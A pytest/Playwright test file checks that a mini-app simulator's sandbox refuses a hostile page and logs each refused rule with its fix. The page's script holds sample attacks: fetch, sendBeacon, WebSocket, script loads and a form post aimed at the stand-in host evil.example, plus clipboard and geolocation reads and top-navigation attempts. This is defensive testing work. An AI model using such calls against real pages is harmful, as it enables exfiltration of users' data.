"""A hostile page in the simulator: the browser refuses, and the log names rule, place and cure."""

import pytest
from playwright.sync_api import expect

from localminis.spec.restrictions import RESTRICTIONS

pytestmark = pytest.mark.browser

# Each attack gives what the page saw; the row that it must leave is in ATTACKS.
PAGE = """<body><div id="here"></div><script src="attacks.js"></script></body>
"""
SCRIPT = """const refusal = (run) => {
  try { return run(); } catch ({ name }) { return name; }
};
const rejected = (run) => Promise.resolve().then(run).catch(({ name }) => name);
const added = (name, fields) => new Promise((resolve) => {
  const node = Object.assign(document.createElement(name), fields);
  node.onerror = () => resolve("error");
  node.onload = () => resolve("load");
  document.body.append(node);
  setTimeout(() => resolve("nothing"), 300);
});
const attacks = {
  eval: () => refusal(() => eval("1 + 1")),
  function: () => refusal(() => new Function("return 1")),
  timer: () => refusal(() => setTimeout("window.timerRan = true", 0)),
  script: () => added("script", { src: "https://evil.example/a.js" }),
  style: () => added("link", { rel: "stylesheet", href: "https://evil.example/a.css" }),
  iframe: () => added("iframe", { src: "https://evil.example/" }),
  bareframe: () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return String(frame.contentWindow);
  },
  srcdoc: () => new Promise((resolve) => {
    window.srcdocRan = false;
    const frame = document.createElement("iframe");
    frame.srcdoc = "<script>parent.srcdocRan = true<\\/script>";
    const around = document.createElement("p");
    around.append(frame);
    document.body.append(around);
    setTimeout(() => resolve(window.srcdocRan), 300);
  }),
  embed: () => added("embed", { src: "https://evil.example/o", type: "application/pdf" }),
  fetch: () => rejected(() => fetch("https://evil.example/fetch")),
  beacon: () => refusal(() => navigator.sendBeacon("https://evil.example/beacon", "x")),
  socket: () => new Promise((resolve) => {
    const socket = new WebSocket("wss://evil.example/socket");
    socket.onerror = () => resolve("error");
    socket.onopen = () => resolve("open");
  }),
  worker: () => refusal(() => new Worker("https://evil.example/worker.js")),
  form: () => {
    const form = document.createElement("form");
    Object.assign(form, { action: "https://evil.example/form", method: "post" });
    document.body.append(form);
    form.submit();
    return "submitted";
  },
  open: () => refusal(() => window.open("https://evil.example/open")),
  link: () => {
    const link = document.createElement("a");
    Object.assign(link, { href: "https://evil.example/link", target: "_blank" });
    document.body.append(link);
    link.click();
    return "clicked";
  },
  top: () => {
    // In a task of its own: the exception is the page's own to lose.
    setTimeout(() => { top.location.href = "https://evil.example/top"; });
    return "asked";
  },
  leave: () => {
    location.href = "https://evil.example/leave";
    return "asked";
  },
  clipboard: () => rejected(() => navigator.clipboard.readText()),
  geolocation: () => new Promise((resolve) =>
    navigator.geolocation.getCurrentPosition(() => resolve("here"), ({ code }) => resolve(code))),
  vibrate: () => navigator.vibrate(10),
};
"""
# In a task of its own: what a debugger calls may make code, whatever the policy says.
RUN = "(name) => new Promise((resolve) => setTimeout(() => resolve(attacks[name]())))"
# In one go and last.
LEAVING = ("form", "leave")
ATTACKS = {
    "eval": ("EvalError", "eval", "attacks.js:"),
    "function": ("EvalError", "function-constructor", "attacks.js:"),
    "timer": (0, "string-timer", "attacks.js:"),
    "script": ("error", "foreign-script", "https://evil.example/a.js"),
    "style": ("error", "foreign-style", "https://evil.example/a.css"),
    "iframe": ("load", "iframe", "https://evil.example/"),
    "bareframe": ("null", "iframe", "about:blank"),
    "srcdoc": (False, "iframe", "srcdoc"),
    "embed": (None, "plugin", "https://evil.example"),
    "fetch": ("TypeError", "untrusted-request", "https://evil.example/fetch"),
    "beacon": (None, "untrusted-request", "https://evil.example/beacon"),
    "socket": ("error", "untrusted-request", "wss://evil.example/socket"),
    "worker": ("SecurityError", "foreign-script", "https://evil.example/worker.js"),
    "open": (None, "navigation", "window.open"),
    "link": ("clicked", "navigation", "_blank"),
    "top": ("asked", "navigation", "evil.example/top"),
    "clipboard": ("NotAllowedError", "clipboard", "readText"),
    "geolocation": (1, "geolocation", "getCurrentPosition"),
    "vibrate": (False, "vibration", "navigator.vibrate"),
    "form": ("submitted", "foreign-form", "https://evil.example/form"),
    "leave": ("asked", "navigation", "https://evil.example/leave"),
}


def test_every_attack_is_refused_and_told_with_its_cure(phone):
    """The browser says no in its own way, the log says which rule, and the simulator stays."""
    with phone(PAGE, files={"attacks.js": SCRIPT}) as (page, frame, _):
        simulator = page.url
        rows = page.get_by_test_id("log-row").and_(page.locator('[data-kind="restriction"]'))
        for attack, (answer, rule, trace) in ATTACKS.items():
            if attack in LEAVING:
                # Not waited for: the driver itself waits for the navigation that is refused.
                frame.evaluate("(name) => { setTimeout(attacks[name]); }", attack)
            else:
                page.locator("#log-clear").click()
                seen = frame.evaluate(RUN, attack)
                assert answer is None or (attack, seen) == (attack, answer)
            row = rows.filter(has_text=f"{rule}:").filter(has_text=trace).first
            expect(row, attack).to_be_visible()
            row.locator("summary").click()
            expect(row.locator("dl")).to_contain_text(RESTRICTIONS[rule].fix)
            if attack == "timer":
                assert frame.evaluate("() => window.timerRan ?? null") is None
        expect(page.locator("#page-address")).to_have_text(frame.url)
        assert page.url == simulator
        assert len(page.context.pages) == 1


def test_a_page_reaches_neither_the_simulator_nor_the_platform(phone, platform):
    """The window above is closed to the page, and the platform's doors answer it nothing."""
    with phone(PAGE) as (page, frame, app):
        reach = "() => { try { return parent.document.title; } catch ({ name }) { return name; } }"
        assert frame.evaluate(reach) == "SecurityError"
        asks = (
            "([path, init]) => fetch(path, init).then(({ status }) => status, ({ name }) => name)"
        )
        for path in (
            "admin/v1/status",
            f"simulator/api/session?client_key={app['client_key']}",
            "simulator/api/grant",
        ):
            body = {"method": "POST", "body": "{}"} if path.endswith("grant") else {}
            assert frame.evaluate(asks, [f"{platform.url}/{path}", body]) == "TypeError", path
        frame.evaluate(
            "() => parent.postMessage({ localminis: 1, type: 'call', id: 'x', method: 3 }, '*')"
        )
        expect(page.get_by_test_id("log")).to_contain_text("unknown shape")
        assert platform.admin("GET", "wallets/1")["balance_beans"] == 50


def test_reported_only_everything_passes_and_is_told(phone):
    """With `--rules report` the page works as in a browser, and the log says what is refused."""
    with phone(PAGE, files={"attacks.js": SCRIPT}, rules="report") as (page, frame, _):
        expect(page.locator("#rules-sign")).to_have_text("Rules: report only")
        rows = page.get_by_test_id("log-row").and_(page.locator('[data-kind="restriction"]'))
        assert frame.evaluate(RUN, "eval") == 2
        for attack in ("eval", "timer", "vibrate"):
            frame.evaluate(RUN, attack)
            expect(rows.filter(has_text=ATTACKS[attack][1]).first).to_have_attribute(
                "data-level", "warn"
            )
        expect(rows.filter(has_text="would be refused").first).to_be_visible()


def test_with_the_rules_off_nothing_is_told(phone):
    """With `--rules off` the log has no refusal, and only the simulator may frame the page."""
    with phone(PAGE, files={"attacks.js": SCRIPT}, rules="off") as (page, frame, _):
        assert frame.evaluate(RUN, "eval") == 2
        expect(page.locator("#rules-sign")).to_have_text("Rules: off")
        restrictions = page.get_by_test_id("log-row").and_(
            page.locator('[data-kind="restriction"]')
        )
        expect(restrictions).to_have_count(0)
